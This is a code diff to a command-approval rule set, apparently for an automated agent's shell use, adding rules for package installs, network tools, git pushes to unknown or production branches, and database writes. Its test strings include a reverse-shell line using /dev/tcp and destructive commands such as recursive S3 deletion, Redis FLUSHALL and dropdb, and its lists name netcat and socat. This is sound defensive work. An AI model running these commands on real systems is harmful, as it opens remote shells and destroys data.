@@ -16,6 +16,10 @@ _PLAIN_OPTIONS = (
     r"(-[sSfiIvkLqO]+|--(silent|show-error|fail|include|head|verbose|quiet|spider)|-[mT] [0-9]+|-o /dev/null)"
 )
 
+_NAME = r"[A-Za-z0-9_][A-Za-z0-9_.-]*"  # neither a path nor an address
+_REF = r"[A-Za-z0-9_][A-Za-z0-9_./-]*"
+_PUSH_OPTIONS = r"(-[uqvn]|--(set-upstream|quiet|verbose|progress|no-progress|dry-run|atomic|porcelain|no-tags|thin))"
+
 INSTALLS = (
     ask(
         id="install.python",
@@ -53,6 +57,16 @@ INSTALLS = (
         not_match=("npm test", "npm run build", "yarn build", "node app.js"),
     ),
     ask(
+        id="install.yarn",
+        reason="without a word after it, it installs Node packages, which run code as they install",
+        suggestion="name what it should run: yarn test",
+        command=("yarn", "yarnpkg"),
+        args=("",),
+        unless=r"--version|-v|--help|-h",
+        match=("yarn", "yarn --frozen-lockfile"),
+        not_match=("yarn test", "yarn --version", "echo yarn"),
+    ),
+    ask(
         id="install.system",
         reason="it installs or removes packages of the system",
         suggestion="add the package to the image instead",
@@ -87,7 +101,7 @@ NETWORK = (
     ask(
         id="network.download",
         reason="it talks to another machine",
-        suggestion="pass the data in as a file, or ask for the network explicitly",
+        suggestion="pass the data in as a file",
         command=listed("""
             curl, wget, wget2, aria2c, http, https, xh, lynx, w3m, links, elinks, lwp-*, axel, fetch, youtube-dl,
             yt-dlp
@@ -99,6 +113,7 @@ NETWORK = (
     ask(
         id="network.connect",
         reason="it opens a connection to another machine",
+        suggestion="pass the data in as a file",
         command=listed("""
             nc, ncat, netcat, nc.*, socat, telnet, ftp, lftp, tftp, sftp, ssh, scp, sshfs, mosh, rsh, rlogin, rexec,
             autossh, sshpass, ssh-copy-id, croc, wormhole, nmap, masscan, hping3, ping, ping6, traceroute, dig,
@@ -111,6 +126,7 @@ NETWORK = (
     ask(
         id="network.rsync",
         reason="it copies files to or from another machine",
+        suggestion="copy between directories of the project",
         command=("rsync",),
         args=("*:*", "$*"),
         match=("rsync -a src/ host:/dst",),
@@ -119,6 +135,7 @@ NETWORK = (
     ask(
         id="network.redirect",
         reason="it opens a network connection by a redirection",
+        suggestion="pass the data in as a file",
         traits=("shell.network-redirect",),
         match=("echo x > /dev/tcp/10.0.0.1/80", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"),
         not_match=("echo x > /dev/null",),
@@ -126,18 +143,21 @@ NETWORK = (
     ask(
         id="network.git",
         reason="it exchanges data with another repository",
+        suggestion="work on the repository that is here; let a person exchange it",
         command=listed("""
-            git clone, git fetch, git pull, git push, git ls-remote, git remote update, git remote add,
+            git clone, git fetch, git pull, git ls-remote, git send-pack, git-push, git http-push, git subtree push,
+            git remote update, git remote add,
             git remote set-url, git submodule update, git submodule add, git archive --remote*, git send-email,
-            git svn, git lfs, gh, glab, hub, svn checkout, svn co, svn commit, svn update, hg clone, hg pull,
-            hg push
+            git svn, git p4, git lfs, gh, glab, hub, jj git, svn checkout, svn co, svn commit, svn update, hg clone,
+            hg pull, hg push
         """),
-        match=("git clone https://x/y", "git -C repo fetch", "git pull"),
+        match=("git clone https://x/y", "git -C repo fetch", "git pull", "git subtree push -P x origin main"),
         not_match=("git status", "git log --oneline", "git add .", "git commit -m 'git push'", "git remote -v"),
     ),
     ask(
         id="network.services",
         reason="it acts on services outside this machine",
+        suggestion="prepare it in files, and let a person or the pipeline carry it out",
         command=listed("""
             aws, gcloud, gsutil, bq, az, kubectl, oc, helm, terraform, tofu, pulumi, ansible*, heroku, flyctl, fly,
             vercel, netlify, wrangler, firebase, doctl, docker push, docker pull, docker login, podman push,
@@ -148,17 +168,42 @@ NETWORK = (
         match=("aws s3 rm s3://bucket --recursive", "terraform apply", "docker push x"),
         not_match=("docker ps", "docker build .", "terraform --version"),
     ),
+    # A branch of one's own at a remote that has a name is what R3.10 doesn't ask about.
+    ask(
+        id="git.push",
+        reason="it pushes where, or what, can't be known beforehand",
+        suggestion="name the remote and a branch of your own: git push origin my-fix",
+        command=("git push",),
+        unless=rf"(-C {_NAME} )?push( {_PUSH_OPTIONS})* {_NAME}( {_PUSH_OPTIONS})*( {_REF}(:{_REF})?)+",
+        match=(
+            "git push",
+            "git push origin",
+            "git push https://x.org/y.git my-fix",
+            "git push git@x.org:y.git my-fix",
+            "git push origin 'refs/heads/*:refs/heads/*'",
+            "git push --tags origin",
+            "git push ../copy my-fix",
+        ),
+        not_match=("git push origin my-fix", "git push -u origin feature/login", "git -C sub push origin HEAD:my-fix"),
+    ),
     ask(
         id="git.production",
         reason="it pushes to a branch that others run in production",
         suggestion="push to a branch of your own and open a pull request",
         command=("git push",),
         args=listed("""
-            main, master, prod*, release*, stable, live, *:main, *:master, *:prod*, *:release*, */main, */master, +*,
-            --all, --mirror, $*
+            main, master, trunk, prod*, release*, deploy*, stable, live, head, @, gh-pages, *:main, *:master, *:trunk,
+            *:prod*, *:release*, *:deploy*, *:stable, *:live, *:head, *:gh-pages, */main, */master, */trunk, */prod*,
+            */release*, */stable, */live, +*, --all, --branches, --mirror, $*
         """),
-        match=("git push origin main", "git -c a.b=c push origin HEAD:production"),
-        not_match=("git push origin my-fix", "git status"),
+        match=(
+            "git push origin main",
+            "git -c a.b=c push origin HEAD:production",
+            "git push origin HEAD",
+            "git push origin my-fix:refs/heads/stable",
+            "git push origin :main",
+        ),
+        not_match=("git push origin my-fix", "git push origin HEAD:my-fix", "git status"),
     ),
     ask(
         id="git.force-push",
@@ -177,9 +222,18 @@ NETWORK = (
 )
 
 _CLIENTS = listed("""
-    psql, mysql, mariadb, sqlite3, sqlite, mongosh, mongo, redis-cli, valkey-cli, cqlsh, sqlcmd, sqlplus, duckdb,
+    psql, mysql, mariadb, sqlite3, sqlite, mongosh, mongo, cqlsh, sqlcmd, sqlplus, duckdb,
     clickhouse-client, clickhouse, influx, pgcli, mycli, usql, bq
 """)
+
+_REDIS_OPTIONS = (
+    r"(-[hpnau] [^\s\x00]+|--(user|pass) [^\s\x00]+|--(raw|no-raw|json|csv|tls|no-auth-warning|version)|-[23v])"
+)
+_REDIS_READS = (
+    "(get|mget|strlen|getrange|exists|type|ttl|pttl|keys|scan|hget|hmget|hgetall|hkeys|hvals|hlen|hexists|hscan|lrange|"
+    "llen|lindex|smembers|sismember|scard|sscan|zrange|zrangebyscore|zscore|zcard|zrank|zcount|zscan|xrange|xlen|"
+    "bitcount|dbsize|info|ping|echo|time|config get|client list|memory usage|object encoding|slowlog get|command)"
+)
 
 DATABASE = (
     ask(
@@ -207,28 +261,13 @@ DATABASE = (
                 "do",
                 "lock",
                 "reindex",
-                "flushall",
-                "flushdb",
                 "set",
-                "del",
-                "unlink",
                 "rename",
                 "shutdown",
-                "config",
-                "eval",
-                "script",
                 "load",
                 "into",
                 "program",
                 "pragma",
-                "hset",
-                "lpush",
-                "rpush",
-                "sadd",
-                "zadd",
-                "incr",
-                "expire",
-                "migrate",
                 "restore",
             ),
             "*[.]insert*(*",
@@ -237,6 +276,19 @@ DATABASE = (
             "*[.]remove*(*",
             "*[.]drop*(*",
             "*[.]replace*(*",
+            "*[.]save*(*",
+            "*[.]create*(*",
+            "*[.]bulkwrite*(*",
+            "*[.]rename*(*",
+            "*[.]find*and*(*",
+            "*[.]findone*update*(*",
+            "*[.]findone*delete*(*",
+            "*[.]findone*replace*(*",
+            "*[.]*command*(*",
+            "*[.]eval*(*",
+            "*[.]set*(*",
+            "*$out*",
+            "*[.]js",
             "*[.]shell*",
             "*[.]system*",
             "*[.]import*",
@@ -254,11 +306,24 @@ DATABASE = (
             "echo 'drop table t' | sqlite3 a.db",
             'mysql -e "delete from t"',
             "sqlite3 a.db 'UPDATE t SET x=1'",
-            "redis-cli FLUSHALL",
+            "mongosh migrate.js",
             'mongosh --eval "db.users.drop()"',
             'psql -c "$sql"',
         ),
-        not_match=("psql -c 'SELECT * FROM updates'", "sqlite3 a.db 'select deleted_at from t'", "redis-cli GET key"),
+        not_match=(
+            "psql -c 'SELECT * FROM updates'",
+            "sqlite3 a.db 'select deleted_at from t'",
+            "mongosh --eval 'db.t.find()'",
+        ),
+    ),
+    ask(
+        id="database.redis",
+        reason="it changes data in a database, or more than it says",
+        suggestion="read with GET, or let a person run the change",
+        command=("redis-cli", "valkey-cli", "keydb-cli"),
+        unless=rf"(?i)({_REDIS_OPTIONS} ?)*({_REDIS_READS}( [^\x00\n]*)?)?",
+        match=("redis-cli FLUSHALL", "redis-cli -n 1 set a 1", "redis-cli HDEL a b", "redis-cli < x", 'redis-cli "$c"'),
+        not_match=("redis-cli GET key", "redis-cli -h db -p 6379 --raw hgetall a", "redis-cli --version"),
     ),
     ask(
         id="database.file",
@@ -272,10 +337,11 @@ DATABASE = (
     ask(
         id="database.tools",
         reason="it creates, drops, restores or migrates a database",
+        suggestion="read with SELECT or pg_dump, or let a person run the change",
         command=listed("""
-            dropdb, createdb, dropuser, createuser, pg_restore, pg_ctl, mysqladmin, mongorestore, mongoimport,
-            alembic upgrade, alembic downgrade, flyway, liquibase, rails db*, rake db*, python* manage.py migrate,
-            python* manage.py flush, prisma migrate, prisma db, knex migrate*, sequelize db*
+            dropdb, createdb, dropuser, createuser, pg_restore, pg_ctl, mysqladmin, mysqlimport, mongorestore,
+            mongoimport, alembic upgrade, alembic downgrade, flyway, liquibase, rails db*, rake db*,
+            python* manage.py migrate, python* manage.py flush, prisma migrate, prisma db, knex migrate*, sequelize db*
         """),
         match=("dropdb prod", "alembic upgrade head", "python manage.py flush"),
         not_match=("pg_dump x", "alembic history"),
